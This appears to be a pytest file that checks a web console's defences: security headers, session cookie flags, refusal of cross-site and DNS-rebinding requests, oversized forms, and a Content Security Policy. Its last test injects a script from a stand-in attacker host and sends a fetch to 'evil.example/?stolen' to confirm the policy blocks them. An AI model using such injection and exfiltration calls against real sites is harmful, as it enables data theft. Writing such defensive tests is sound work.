"""What browsers are told about the console, and that its pages live under it (attacks G3, D6)."""

import contextlib

import httpx
from console.conftest import TOKEN


@contextlib.contextmanager
def signed_in(site):
    with httpx.Client(base_url=site.url, headers={"origin": site.url}, timeout=60) as http:
        assert http.post("/console/login", data={"token": TOKEN}).status_code == 303
        yield http


def test_every_answer_of_the_console_carries_the_policy(site):
    with signed_in(site) as http:
        http.get("/console/")  # loads NiceGUI
        for path in ("/console/login", "/console/", "/console/logout", "/console/no/such/page", "/jobs/1", "/"):
            answer = http.get(path)
            assert "frame-ancestors 'none'" in answer.headers["content-security-policy"], path
            assert "default-src *" not in answer.headers["content-security-policy"]
            for name, value in (
                ("x-content-type-options", "nosniff"), ("x-frame-options", "DENY"), ("referrer-policy", "same-origin"),
                ("cross-origin-opener-policy", "same-origin"), ("cross-origin-resource-policy", "same-origin"),
            ):  # fmt: skip
                assert answer.headers.get(name) == value, (path, name)
            assert "server" not in answer.headers
            assert "access-control-allow-origin" not in answer.headers


def test_the_session_cookie_is_for_this_server_alone_and_not_for_scripts(site):
    with httpx.Client(base_url=site.url, headers={"origin": site.url}) as http:
        made = http.post("/console/login", data={"token": TOKEN}).headers["set-cookie"].lower()
    assert "httponly" in made
    assert "samesite=strict" in made
    assert "path=/;" in made  # as the __Host- prefix, which the name has over TLS, demands
    assert "domain" not in made


def test_what_another_site_sends_with_our_cookie_is_refused(site):
    """By what the browser says of itself, and by the Origin (CSRF, G3)."""
    with signed_in(site) as http:
        for headers in (
            {"sec-fetch-site": "cross-site"},
            {"origin": "https://evil.example"},
            {"origin": "null"},
            {"origin": site.url + ".evil.example"},
        ):
            assert http.post("/console/", headers=headers).status_code == 403, headers
            assert http.post("/console/login", data={"token": TOKEN}, headers=headers).status_code == 403, headers
        assert http.get("/api/2.0/preview/scim/v2/Me").status_code == 401  # the API takes no cookie


def test_a_name_that_is_not_ours_reaches_neither_the_console_nor_its_socket(site):
    """DNS rebinding: the browser sends the evil site's name as host and as origin (G3)."""
    for path in ("/console/login", "/", "/console/_nicegui_ws/socket.io/?EIO=4&transport=websocket"):
        answer = httpx.get(site.url + path, headers={"host": "evil.example:8470", "origin": "http://evil.example:8470"})
        assert answer.status_code == 421, path
    assert httpx.get(f"{site.url}/console/login", headers={"host": "dev.localhost:8470"}).status_code == 200


def test_a_form_larger_than_any_sign_in_is_not_read(site):
    big = b"token=" + b"a" * 2**22
    assert httpx.post(f"{site.url}/console/login", content=big, headers={"origin": site.url}).status_code == 413


def test_pages_work_under_the_policy_and_foreign_scripts_do_not(window, site):
    violations = []
    window.page.on("console", lambda message: violations.append(message.text))
    window.page.goto(f"{site.url}/console/login")
    window.page.get_by_label("Token").fill(TOKEN)
    window.page.get_by_role("button", name="Sign in").click()
    window.page.get_by_role("heading", name="Overview").wait_for()
    for name in ("Jobs", "Catalog", "Models", "Endpoints", "Audit"):
        window.page.get_by_role("link", name=name).first.click()
        window.page.get_by_role("heading", name=name).wait_for()
    assert not [text for text in violations if "Content Security Policy" in text], violations
    blocked = window.page.evaluate(
        """() => new Promise(done => {
            document.addEventListener('securitypolicyviolation', event => done(event.effectiveDirective))
            const script = document.createElement('script')
            script.src = 'https://evil.example/x.js'
            document.head.append(script)
            setTimeout(() => done('nothing'), 5000)
        })"""
    )
    assert blocked == "script-src-elem"
    sent = window.page.evaluate("() => fetch('https://evil.example/?stolen').then(() => 'sent', () => 'blocked')")
    assert sent == "blocked"
    assert all("evil.example" in error for error in window.errors), window.errors
    window.errors.clear()  # asked for, and not sent
